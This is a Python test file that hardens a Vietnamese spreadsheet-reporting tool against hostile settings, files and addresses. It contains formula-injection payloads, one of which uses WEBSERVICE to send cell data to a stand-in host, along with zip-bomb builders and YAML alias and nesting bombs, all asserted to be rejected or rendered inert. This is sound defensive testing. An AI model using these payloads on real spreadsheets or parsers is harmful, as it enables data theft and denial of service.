"""A hostile tester's settings, files and addresses (issue 21): none destroys data, leaks a secret or arms a
formula; each is a clear exit 2 or 3 within bounded memory, never a bug's exit 1 or a hang."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import zipfile

import openpyxl
import pytest
import yaml

from sync.core.schema import Layout
from sync.files import csv_field, text_cell
from sync.state.store import State
from sync.usecases.common import failure
from sync.usecases.history import write_workbook

from .conftest import AS_OF, PLAN_PATH
from .smtp import Inbox, start
from .test_history import D2, type_cells

LEADERS = ["lanhdao@example.invalid", "sonoivu@example.invalid"]


# --- 1. settings that would overwrite another tab ---------------------------------------------------------

@pytest.mark.parametrize("tabs, key", [
    ({"dashboard": "Theo dõi"}, "tabs.dashboard"),        # the units' tab deleted, the dashboard in its place
    ({"dashboard": "THEO DOI"}, "tabs.dashboard"),        # the same tab once folded as tabs are found
    ({"dashboard": "Kế hoạch"}, "tabs.dashboard"),        # the Office's plan wiped
    ({"log": "Theo dõi"}, "tabs.log"),                    # log lines among the units' rows
    ({"plan": "Theo dõi"}, "tabs.plan"),                  # the units locked out of their own tab
    ({"plan": "Kế hoạch 2024", "tracking": "kế hoạch 2024"}, "tabs.tracking"),
])
def test_two_tabs_keys_naming_one_tab_are_exit_2_before_anything_is_read(inited_project, tabs, key):
    p = inited_project
    before = p.workbook.read_bytes()
    p.write_config({"tabs": tabs})
    for command in (["run", "--as-of", AS_OF.isoformat()], ["init"], ["status"]):
        code, _, err = p.cli(*command)
        assert code == 2 and key in err and "cùng một tab" in err, (command, err)
    assert p.workbook.read_bytes() == before


def test_a_tab_holding_the_units_rows_is_never_rewritten_or_appended_to(demo_ran_project):
    """Whatever the settings say, a tab that holds the tracking (or plan) header is not the dashboard or log."""
    p = demo_ran_project
    wb = openpyxl.load_workbook(p.workbook)
    wb.copy_worksheet(wb["Theo dõi"]).title = "Theo dõi (bản sao)"
    wb.copy_worksheet(wb["Kế hoạch"]).title = "KH cũ"
    wb.save(p.workbook)
    before = p.workbook.read_bytes()
    for tabs in ({"dashboard": "Theo dõi (bản sao)"}, {"log": "Theo dõi (bản sao)"}, {"dashboard": "KH cũ"}):
        p.write_config({"tabs": tabs})
        for command in (["run", "--as-of", AS_OF.isoformat()], ["init"]):  # init would protect it, locking units out
            code, _, err = p.cli(*command)
            key = next(iter(tabs))
            assert code == 2 and f"tabs.{key}" in err and "không ghi đè" in err, (command, err)
            assert p.workbook.read_bytes() == before
    p.write_config({"tabs": {"log": "Theo dõi (bản sao)"}})
    type_cells(p.workbook, 3, "Văn phòng", **{"Tình trạng": "Đang thực hiện"})  # to restore, so it would write
    typed = p.workbook.read_bytes()
    code, _, err = p.cli("restore", "--task", "3", "--unit", "VP", "--at", AS_OF.isoformat(), "--yes", "--force")
    assert code == 2 and "tabs.log" in err and p.workbook.read_bytes() == typed


# --- 2. secrets never printed, any password works ---------------------------------------------------------

VIETNAMESE_PASSWORD = "Mật khẩu Khánh Hòa đúng"


@pytest.fixture
def auth_inbox():
    box = Inbox()
    controller = start(box, users={"vanphong": VIETNAMESE_PASSWORD})
    yield controller, box
    controller.stop()


def _smtp(project, port: int, **smtp) -> None:
    project.write_config({"mail": {"mode": "smtp", "report_to": LEADERS, "from": "VP <vp@sotttt.example.invalid>",
                                   "smtp": {"host": "127.0.0.1", "port": port, "security": "none", "attempts": 1,
                                            **smtp}}})


def _everything_written(project) -> str:
    """Every file under the project (state file, reports, outbox) as text, to grep for a secret."""
    out = []
    for path in project.root.rglob("*"):
        if path.is_file():
            out.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(out)


def test_a_password_with_vietnamese_letters_logs_in_and_a_wrong_one_is_never_printed(demo_project, auth_inbox,
                                                                                    monkeypatch):
    controller, box = auth_inbox
    monkeypatch.setenv("CCHC_SMTP_PW", "Mật khẩu sai ư")
    _smtp(demo_project, controller.port, username="vanphong", password_env="CCHC_SMTP_PW")
    code, out, err = demo_project.cli("report", "--quarter", "2024Q3", "--send")
    assert code == 2 and "từ chối đăng nhập" in err and box.messages == []
    for text in (out, err, _everything_written(demo_project)):
        assert "sai ư" not in text and "Mật khẩu" not in text
    monkeypatch.setenv("CCHC_SMTP_PW", VIETNAMESE_PASSWORD)  # sent UTF-8 (AUTH PLAIN, RFC 4616)
    code, out, err = demo_project.cli("report", "--quarter", "2024Q3", "--send")
    assert code == 0, err
    assert all(box.count_for(a) == 1 for a in LEADERS)
    assert VIETNAMESE_PASSWORD not in out + err + _everything_written(demo_project)


def test_a_server_that_cannot_take_a_non_ascii_password_is_exit_2_naming_the_setting(demo_project, monkeypatch):
    """A server offering only CRAM-MD5 (which the standard library sends as ASCII): the setting is named."""
    class CramOnly(Inbox):
        async def auth_CRAM__MD5(self, server, args):  # advertised as CRAM-MD5; never reached here
            return None
    box = CramOnly()
    from aiosmtpd.controller import Controller

    from .smtp import free_port
    controller = Controller(box, hostname="127.0.0.1", port=free_port(), auth_require_tls=False,
                            auth_exclude_mechanism=["LOGIN", "PLAIN"], authenticator=lambda *a: None)
    controller.start()
    try:
        monkeypatch.setenv("CCHC_SMTP_PW", VIETNAMESE_PASSWORD)
        _smtp(demo_project, controller.port, username="vanphong", password_env="CCHC_SMTP_PW")
        code, out, err = demo_project.cli("report", "--quarter", "2024Q3", "--send")
    finally:
        controller.stop()
    assert code == 2 and "mail.smtp.password_env" in err and "CRAM-MD5" in err, err
    assert VIETNAMESE_PASSWORD not in out + err + _everything_written(demo_project)


def test_a_bug_is_named_by_its_type_never_by_arguments_that_may_hold_a_secret():
    exc = UnicodeEncodeError("ascii", "\0vanphong\0bí-mật-123", 12, 13, "ordinal not in range(128)")
    code, lines = failure(exc)
    assert code == 1 and "UnicodeEncodeError" in lines[0]
    assert not any("bí-mật" in line or "vanphong" in line for line in lines)


# --- 3. safe outputs ---------------------------------------------------------------------------------------

FORMULAS = {"Kết quả Quý I": '=WEBSERVICE("http://evil.example/?q="&A1)', "Kết quả Quý II": "=1+2",
            "Minh chứng": '=HYPERLINK("http://evil.example","Bấm")', "Kết quả Quý III": "@SUM(A1:A9)",
            "Kết quả Quý IV": "+ Đăng 3 tin"}


def _formula_cells(path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_formulas_units_typed_stay_inert_text_in_every_file_written_for_people(demo_ran_project):
    p = demo_ran_project
    type_cells(p.workbook, 3, "Văn phòng", **FORMULAS)
    assert p.cli("run", "--as-of", D2.isoformat())[0] == 0  # recorded in history at D2
    assert p.cli("export", "-o", str(p.root / "x.xlsx"))[0] == 0
    assert p.cli("history", "--at", D2.isoformat(), "-o", str(p.root / "h.xlsx"))[0] == 0
    for book in ("x.xlsx", "h.xlsx"):
        assert _formula_cells(p.root / book) == [], book
        texts = {c.value for row in openpyxl.load_workbook(p.root / book).active.iter_rows() for c in row}
        assert set(FORMULAS.values()) <= texts, book  # as typed, a string cell
    assert p.cli("export", "-o", str(p.root / "x.csv"))[0] == 0
    code, printed, _ = p.cli("export")
    for text in ((p.root / "x.csv").read_text(encoding="utf-8-sig"), printed):
        fields = {f for row in csv.reader(io.StringIO(text)) for f in row}
        assert {"'" + v for v in FORMULAS.values()} <= fields
        assert not any(f.startswith(("=", "+", "@")) for f in fields)


def test_the_reports_internal_list_of_errors_keeps_a_units_formula_inert(demo_ran_project):
    p = demo_ran_project
    type_cells(p.workbook, 3, "Văn phòng", **{"Đơn vị": '=HYPERLINK("http://evil.example","VP")'})
    code, out, err = p.cli("report", "--period", "2024Q3", "--date", "2024-09-20", "--json")
    assert code == 0, err
    annex = json.loads(out)["annex"]  # the internal companion workbook (….noi-bo.xlsx)
    cells = [c for ws in openpyxl.load_workbook(annex).worksheets for row in ws.iter_rows() for c in row]
    typed = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert typed and all(c.data_type == "s" for c in typed)  # stored as text, never a live formula
    assert not any(c.data_type == "f" for c in cells)


def test_control_characters_and_endless_numbers_are_shown_not_a_failed_file(demo_ran_project, plan):
    """A Google cell may hold a control character (an .xlsx cannot) or a number of thousands of digits."""
    grid = [["STT", "Ghi chú", "Kết quả Quý I"], [3, "chuông\x07ở đây\x00", "=1+2"], [4, 10 ** 4400, "\x1b[31m"]]
    out = demo_ran_project.root / "h.xlsx"
    write_workbook(out, grid, plan, Layout())
    ws = openpyxl.load_workbook(out).active
    assert ws["B2"].value == "chuông␇ở đây␀" and ws["C2"].value == "=1+2" and ws["C2"].data_type == "s"
    assert "chữ số" in ws["B3"].value and ws["C3"].value == "␛[31m"
    assert csv_field("\x07=x") == "␇=x" and csv_field("\t=1+2") == "'\t=1+2" and csv_field("-5") == "-5"
    assert text_cell(10 ** 5000).startswith("(số quá dài")
    assert text_cell("a\ufffeb\ud800") == "a\ufffdb\ufffd"  # a Google cell may hold them; an .xlsx cannot


def test_a_number_of_4301_digits_typed_in_a_cell_is_an_input_error_not_a_failed_pass(demo_ran_project):
    p = demo_ran_project
    type_cells(p.workbook, 3, "Văn phòng", **{"Số lượng sản phẩm": "7" * 4301})
    code, out, err = p.cli("run", "--as-of", D2.isoformat(), "--json")
    assert code == 0, err
    assert json.loads(out)["errors"] >= 1
    assert p.cli("export", "-o", str(p.root / "x.xlsx"))[0] == 0


# --- 6. mail that goes to everyone it can -----------------------------------------------------------------

@pytest.fixture
def inbox():
    box = Inbox()
    controller = start(box)
    yield controller, box
    controller.stop()


def test_a_refused_address_is_recorded_and_skipped_and_the_others_get_the_report(demo_project, inbox):
    controller, box = inbox
    _smtp(demo_project, controller.port)
    config = demo_project.config.read_text(encoding="utf-8")
    demo_project.config.write_text(config.replace("report_to:", "report_to:\n  - nobody@example.invalid"),
                                   encoding="utf-8")
    code, out, err = demo_project.cli("report", "--quarter", "2024Q3", "--send")
    assert code == 2 and "nobody@example.invalid" in err and "550" in err, err
    assert all(box.count_for(a) == 1 for a in LEADERS)  # those after the refused one got it in the same call
    state = State(demo_project.root / "state.sqlite")
    assert state.send_status("report", "2024Q3", "nobody@example.invalid") == "failed"
    code, out, _ = demo_project.cli("status", "--json")
    assert json.loads(out)["refused"] == ["nobody@example.invalid"]
    code, out, _ = demo_project.cli("status")
    assert "nobody@example.invalid (550" in out
    code, _, err = demo_project.cli("report", "--quarter", "2024Q3", "--send")  # again: still said, none resent
    assert code == 2 and all(box.count_for(a) == 1 for a in LEADERS)


def test_an_address_refused_for_now_is_exit_3_and_the_others_get_the_report(demo_project, inbox):
    controller, box = inbox
    _smtp(demo_project, controller.port)
    config = demo_project.config.read_text(encoding="utf-8")
    demo_project.config.write_text(config.replace("report_to:", "report_to:\n  - busy@example.invalid"),
                                   encoding="utf-8")
    code, _, err = demo_project.cli("report", "--quarter", "2024Q3", "--send")
    assert code == 3 and "busy@example.invalid" in err
    assert all(box.count_for(a) == 1 for a in LEADERS)


@pytest.mark.parametrize("key", ["mail.outbox_dir", "report.out_dir"])
def test_an_outbox_or_report_folder_that_cannot_be_written_is_exit_2_naming_it(demo_project, key):
    blocker = demo_project.root / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    section, name = key.split(".")
    demo_project.write_config({"mail": {"report_to": LEADERS, "outbox_dir": str(demo_project.root / "outbox")},
                               "report": {"out_dir": str(demo_project.root / "reports")}})
    config = yaml.safe_load(demo_project.config.read_text(encoding="utf-8"))
    config[section][name] = str(blocker / "inside")
    demo_project.config.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    code, _, err = demo_project.cli("report", "--quarter", "2024Q3", "--send")
    assert code == 2 and key in err and str(blocker) in err, err


def test_a_read_only_outbox_is_exit_2_even_for_root(demo_project):
    outbox = demo_project.root / "outbox"
    outbox.mkdir()
    demo_project.write_config({"mail": {"report_to": LEADERS, "outbox_dir": str(outbox)}})
    outbox.chmod(0o555)
    try:
        code, _, err = demo_project.cli("report", "--quarter", "2024Q3", "--send")
    finally:
        outbox.chmod(0o755)
    assert code == 2 and "mail.outbox_dir" in err and list(outbox.iterdir()) == []


def test_a_report_dated_after_today_is_exit_2_and_nothing_is_sent(demo_project):
    demo_project.write_config({"mail": {"report_to": LEADERS, "outbox_dir": str(demo_project.root / "outbox")}})
    future = (dt.date.today() + dt.timedelta(days=2)).isoformat()
    code, _, err = demo_project.cli("report", "--period", "2024Q3", "--date", future, "--send")
    assert code == 2 and "--date" in err and "tương lai" in err
    assert not (demo_project.root / "outbox").exists()


def test_units_without_an_email_are_named_by_remind_and_status(demo_ran_project):
    p = demo_ran_project  # the shipped plan: no unit has an address yet
    code, out, _ = p.cli("remind", "--as-of", AS_OF.isoformat())
    assert code == 0 and "Chưa có địa chỉ e-mail dùng được của 6 đơn vị" in out and str(PLAN_PATH) in out
    code, out, _ = p.cli("status")
    assert "Chưa có địa chỉ e-mail dùng được của 6 đơn vị" in out and "'email'" in out
    assert json.loads(p.cli("status", "--json")[1])["units_without_email"] == ["VP", "CNTT", "TTBCXB", "TTDV",
                                                                                "CONG", "BBT"]


# --- 7. bounded inputs --------------------------------------------------------------------------------------

def test_a_docx_zip_bomb_is_refused_before_it_is_unpacked(project, tmp_path):
    import docx
    small = tmp_path / "small.docx"
    document = docx.Document()
    document.add_paragraph("Kế hoạch")
    document.save(small)
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            out.writestr(item, src.read(item.filename))
        part = zipfile.ZipInfo("word/media/padding.bin")
        part.compress_type = zipfile.ZIP_DEFLATED
        with out.open(part, "w", force_zip64=True) as fh:
            for _ in range(60):
                fh.write(bytes(1 << 20))  # 60 MB of zeros: ~60 KB packed
    assert bomb.stat().st_size < 1 << 20
    code, _, err = project.cli("plan", "import", str(bomb))
    assert code == 2 and "50 MB" in err and "bomb.docx" in err


def test_a_fifo_or_a_device_named_as_a_file_is_exit_2_without_waiting(project, tmp_path):
    fifo = tmp_path / "wb.xlsx"
    os.mkfifo(fifo)
    project.write_config({"local": {"path": str(fifo)}})
    code, _, err = project.cli("run")  # reading a FIFO would wait, holding the job lock, until someone writes
    assert code == 2 and "local.path" in err and "FIFO" in err
    project.write_config({"plan": "/dev/zero"})  # reading it would never end
    code, _, err = project.cli("run")
    assert code == 2 and "/dev/zero" in err and "'plan'" in err
    project.write_config({})
    code, _, err = project.cli("plan", "import", str(fifo))
    assert code == 2 and "FIFO" in err
    project.config.unlink()
    os.mkfifo(project.config)  # the settings file itself
    code, _, err = project.cli("status")
    assert code == 2 and str(project.config) in err


@pytest.mark.parametrize("text, said", [
    ("a: " + "[" * 100_000 + "]" * 100_000, "lồng nhau quá sâu"),
    ("".join(f"{n}: &{n} [" + ", ".join([f"*{p}" if p else '"x"'] * 9) + "]\n"
             for p, n in zip([None, "a", "b", "c", "d", "e", "f", "g"], "abcdefgh", strict=True)), "tham chiếu"),
    ("a: '" + "x" * (3 * 1024 * 1024) + "'", "MB"),
])
def test_yaml_too_deep_too_many_aliases_or_too_large_is_exit_2(project, text, said):
    project.config.write_text(text, encoding="utf-8")
    code, _, err = project.cli("status")
    assert code == 2 and said in err and "Lỗi trong chương trình" not in err, err


def test_a_copy_of_the_units_workbook_sent_as_a_zip_bomb_is_refused(project, inited_template):
    big = project.workbook
    big.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(inited_template / "data" / "wb.xlsx", big)
    with zipfile.ZipFile(big, "a", zipfile.ZIP_DEFLATED) as out:
        part = zipfile.ZipInfo("xl/media/padding.bin")
        part.compress_type = zipfile.ZIP_DEFLATED
        with out.open(part, "w", force_zip64=True) as fh:
            for _ in range(210):
                fh.write(bytes(1 << 20))
    code, _, err = project.cli("run")
    assert code == 2 and "200 MB" in err and "local.path" in err


def _python_m_sync(project, *args, stdout=None, file_limit: int | None = None):
    """`python -m sync ARGS` as a real process: a full disk is the kernel's answer to a real write."""
    import resource
    import signal
    import subprocess
    import sys

    def limits():
        if file_limit is not None:  # a write past it fails with EFBIG, as on a full disk
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (file_limit, file_limit))
    from sync.core.config import PROJECT_DIR
    # No bytecode written: under the file size limit the first process to import a module would leave a truncated
    # .pyc that every later import fails on ("marshal data too short"; seen in a fresh clone's `make test`)
    env = {**{k: v for k, v in os.environ.items() if k != "CCHC_DEBUG"}, "PYTHONPATH": str(PROJECT_DIR),
           "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run([sys.executable, "-m", "sync", *args, "--config", str(project.config)], cwd=project.root,
                          stdout=stdout or subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                          preexec_fn=limits, check=False, timeout=300)


def test_output_onto_a_full_disk_is_exit_3_without_a_traceback(demo_ran_project):
    p = demo_ran_project
    for target in ("x.xlsx", "x.csv"):
        proc = _python_m_sync(p, "export", "-o", str(p.root / target), file_limit=4096)
        assert proc.returncode == 3 and target in proc.stderr, proc.stderr
        assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr
        assert not (p.root / target).exists()
    with open("/dev/full", "w") as full:
        proc = _python_m_sync(p, "status", stdout=full)
    assert proc.returncode == 3 and "đầu ra chuẩn" in proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.parametrize("key, value", [("subject", "Kết quả\rthực hiện {period}"), ("issuer", "SỞ\x07TT&TT"),
                                        ("issuer", "SỞ \ufffe TT"), ("governing_body", "UBND \ud800")])
def test_a_control_character_in_a_report_text_is_exit_2_naming_the_key(project, key, value):
    project.write_config({"report": {key: value}})
    code, _, err = project.cli("status")
    assert code == 2 and f"report.{key}" in err and "ký tự điều khiển" in err


@pytest.mark.parametrize("field, value", [("title", "Kế hoạch \\v tuyên truyền"), ("title", "Kế hoạch \\uFFFE"),
                                          ("task", "Tuyên truyền \\x0b CCHC")])
def test_a_character_no_document_can_hold_in_the_plan_is_exit_2_naming_where(project, tmp_path, field, value):
    """A YAML escape ("\\v", "\\uFFFE") makes a character the workbook and the report cannot hold: refused
    when the plan is read, naming the entry, not an exit 1 when the workbook is written."""
    text = PLAN_PATH.read_text(encoding="utf-8")
    raw = yaml.safe_load(text)
    target = raw if field == "title" else raw["tasks"][2]
    target[field] = "PLACEHOLDER"
    plan = tmp_path / "plan.yaml"
    plan.write_text(yaml.safe_dump(raw, allow_unicode=True).replace("PLACEHOLDER", f'"{value}"'), encoding="utf-8")
    project.write_config({"plan": str(plan)})
    code, _, err = project.cli("init")
    where = "title" if field == "title" else "tasks.3.task"
    assert code == 2 and f"'{where}'" in err and "Traceback" not in err and not project.workbook.exists()


def test_a_control_character_pasted_into_the_settings_is_named_by_its_line(project):
    """Word's Shift+Enter pasted as is (U+000B): YAML refuses the file; the message says the line and the fix."""
    project.config.write_text(f"local: {{path: {project.workbook}}}\nreport:\n  issuer: \"SỞ\x0b TT\"\n",
                              encoding="utf-8")
    code, _, err = project.cli("status")
    assert code == 2 and "ở dòng 3" in err and "U+000B" in err and "Traceback" not in err


def test_an_opening_written_over_several_lines_is_one_paragraph(project):
    from sync.core.config import load_settings
    project.write_config({"report": {"opening": "Thực hiện {plan_title},\r\n{issuer} báo cáo\nnhư sau:"}})
    assert load_settings(str(project.config)).report.opening == "Thực hiện {plan_title}, {issuer} báo cáo như sau:"


@pytest.mark.parametrize("key", ["guide", "dashboard", "log"])
def test_a_job_tab_named_onto_a_tab_the_office_keeps_is_refused(inited_project, key):
    """`tabs: {guide: "Báo cáo riêng"}` where the Office keeps its own tab of that name: exit 2, the tab as it was."""
    p = inited_project
    wb = openpyxl.load_workbook(p.workbook)
    ws = wb.create_sheet("Báo cáo riêng")
    ws["A1"], ws["B2"] = "Kỳ báo cáo", "Đoạn văn Văn phòng đã gõ"
    wb.save(p.workbook)
    p.write_config({"tabs": {key: "Báo cáo riêng"}})
    for command in (("init",), ("run", "--as-of", "2024-09-20")):
        code, out, err = p.cli(*command)
        assert code == 2 and f"tabs.{key}" in err, (command, err)
    kept = openpyxl.load_workbook(p.workbook, read_only=True)["Báo cáo riêng"]
    rows = [[c for c in r if c] for r in kept.iter_rows(values_only=True)]
    assert rows == [["Kỳ báo cáo"], ["Đoạn văn Văn phòng đã gõ"]]


@pytest.mark.parametrize("name", ["Hướng dẫn cập nhật bảng theo dõi kế hoạch năm 2024", "'Nhật ký", "History",
                                  "Theo dõi\u200b"])
def test_tab_names_excel_cannot_keep_are_refused(project, name):
    project.write_config({"tabs": {"guide": name}})
    code, out, err = project.cli("run", "--as-of", "2024-09-20")
    assert code == 2 and "tabs.guide" in err, err


def test_output_never_goes_through_a_link_nor_over_a_read_only_file(demo_ran_project, tmp_path):
    p = demo_ran_project
    other = tmp_path / "another-workbook.xlsx"
    other.write_bytes(b"keep me")
    link = tmp_path / "link.xlsx"
    link.symlink_to(other)
    kept = tmp_path / "kept.csv"
    kept.write_text("keep me", encoding="utf-8")
    kept.chmod(0o444)
    for target in (link, kept):
        code, out, err = p.cli("export", "-o", str(target))
        assert code == 2 and str(target) in err, err
    assert other.read_bytes() == b"keep me" and kept.read_text(encoding="utf-8") == "keep me"
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    code, out, err = p.cli("history", "--at", "2024-09-20", "-o", str(folder / "h.xlsx"))
    assert code == 2 and "chỉ đọc" in err, err
    assert list(folder.iterdir()) == []
